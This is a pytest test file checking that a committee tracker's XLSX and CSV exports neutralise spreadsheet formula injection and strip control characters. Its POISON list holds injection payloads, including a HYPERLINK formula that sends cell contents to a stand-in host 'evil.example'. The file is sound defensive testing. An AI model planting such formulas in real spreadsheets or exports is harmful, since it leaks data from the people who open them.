"""Exports neutralise formulas and never fail on a character a spreadsheet cannot hold."""
from __future__ import annotations

import copy
import csv
import io

import pytest
from openpyxl import load_workbook

from tests.conftest import import_magura, login

POISON = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1)",
          "\tতাব", "\rফেরত"]


@pytest.fixture
def poisoned(app, magura_doc):
    doc = copy.deepcopy(magura_doc)
    doc["meeting"]["items"][1]["decisions"] = [{"text": text} for text in POISON] + [
        {"text": "নিয়ন্ত্রণ অক্ষর"}]
    meeting_id = import_magura(app, doc)
    from sqlalchemy import update

    from committee.extensions import db
    from committee.models import Assignment, Decision

    with app.app_context():  # stored before input was cleaned: exports must survive it
        db.session.execute(update(Decision).where(Decision.text == "নিয়ন্ত্রণ অক্ষর")
                           .values(text="ঘণ্টা\a বাজে\x1b এবং শূন্য"))
        db.session.execute(update(Assignment).values(status_note="=1+1\x07"))
        db.session.commit()
    return meeting_id


def _committee(app, meeting_id):
    from committee.extensions import db
    from committee.models import Meeting

    with app.app_context():
        return db.session.get(Meeting, meeting_id).committee_id


def test_xlsx_cells_are_texts_not_formulas(app, users, poisoned):
    client = app.test_client()
    login(client, "viewer")
    response = client.get(f"/committees/{_committee(app, poisoned)}/tracker.xlsx")
    assert response.status_code == 200
    ws = load_workbook(io.BytesIO(response.data)).active
    texts = [row[2] for row in ws.iter_rows(min_row=2, values_only=True)]
    cells = [row[2] for row in ws.iter_rows(min_row=2)]
    for poison in POISON:
        assert poison.strip("\t\r") in {t.strip("\t\r") for t in texts if t}
    assert all(c.data_type == "s" for c in cells), [(c.value, c.data_type) for c in cells]
    assert any(t and "ঘণ্টা" in t and "\a" not in t for t in texts)


def test_csv_fields_get_the_apostrophe(app, users, poisoned):
    client = app.test_client()
    login(client, "viewer")
    response = client.get(f"/committees/{_committee(app, poisoned)}/tracker.csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
    texts = {r[2] for r in rows[1:]}
    assert "'" + POISON[0] in texts and "'@SUM(A1)" in texts and "'-2+3" in texts
    assert not any(t.startswith(("=", "+", "-", "@")) for t in texts)
